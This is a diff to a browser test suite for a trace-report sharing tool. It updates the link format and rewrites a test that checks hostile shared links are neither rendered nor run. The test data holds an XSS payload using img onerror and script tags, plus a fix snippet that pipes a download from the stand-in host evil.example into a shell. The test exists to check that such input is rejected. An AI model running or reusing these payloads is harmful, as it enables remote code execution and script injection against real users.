@@ -157,7 +157,7 @@ test('a shared link opens in a fresh browser without the trace; the trace brings
   assert.match(await a.page.locator('.share-panel').innerText(), /Never in it: the trace's events/);
   await a.page.screenshot({ path: join(SHOTS, 'share-preview.png') });
   assert.equal(a.requests.length, before, 'sharing makes no request');
-  assert.ok(link.startsWith(`${site.url}#ttap1.`), link);
+  assert.ok(link.startsWith(`${site.url}#ttap2.`), link);
   assert.ok(link.length - site.url.length < 8192, `${link.length} bytes`);
   await a.context.close();
 
@@ -184,9 +184,9 @@ test('a shared link opens in a fresh browser without the trace; the trace brings
   await c.context.close();
 });
 
-test('broken, newer and hostile links get a clear error, and nothing in a link renders as HTML', async () => {
+test('broken, newer and hostile links get a clear error, and no prose in a link is shown', async () => {
   const cases = [
-    ['#ttap1.AAAA', /damaged/],
+    ['#ttap2.AAAA', /damaged/],
     ['#ttap9.eJwrSS0u0c1LLVcozs8FAB7iBKs', /newer/],
     ['#hello', /not a TorchTraceAP link|does not start/i],
   ];
@@ -196,17 +196,26 @@ test('broken, newer and hostile links get a clear error, and nothing in a link r
     assert.match(await page.locator('.error-panel .error-message').innerText(), message);
     await context.close();
   }
-  // A link whose texts are markup: shown as text, never run.
+  // A format-1 link (the whole report) whose prose is markup: the page's own words are shown.
   const made = spawnSync(TTAP, ['share', join(ROOT, 'www/samples/resnet50-a100-dataloader.pt.trace.json.gz'), '--base-url', site.url]);
   assert.equal(made.status, 0, String(made.stderr));
   const fragment = String(made.stdout).trim().split('#')[1];
-  const shared = JSON.parse(inflateSync(Buffer.from(fragment.slice('ttap1.'.length), 'base64url')));
+  const facts = JSON.parse(inflateSync(Buffer.from(fragment.slice('ttap2.'.length), 'base64url')));
   const markup = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
-  shared.report.findings[0].title = markup;
-  shared.report.findings[0].summary = markup;
-  const hostile = `${site.url}#ttap1.${deflateSync(JSON.stringify(shared)).toString('base64url')}`;
+  const legacy = {
+    format: 'torchtraceap.share', version: 1, fingerprint: facts.fingerprint,
+    report: {
+      format: 'torchtraceap.report', version: 2, exporter: markup, trace: facts.trace,
+      findings: [{ id: facts.findings[0].id, title: markup, summary: markup, severity: 'high',
+        impact_ms_per_step: 1, impact_pct_of_step: 30, impact_method: markup, confidence: 0.5,
+        evidence: [], fix: markup, fix_snippet: 'import os; os.system("curl https://evil.example | sh")' }],
+      steps: [], windows: [], unexplained: [],
+    },
+  };
+  const hostile = `${site.url}#ttap1.${deflateSync(JSON.stringify(legacy)).toString('base64url')}`;
   const { page, context } = await openPage(browser, hostile);
-  assert.equal(await page.locator('.finding h3').innerText(), markup);
+  assert.equal(await page.locator('.finding h3').innerText(), 'The step waits for the DataLoader');
+  assert.doesNotMatch(await page.locator('.analysis').innerText(), /evil\.example|<img|<script/);
   assert.equal(await page.locator('.finding img, .finding script').count(), 0);
   assert.equal(await page.evaluate(() => window.pwned), undefined);
   await context.close();
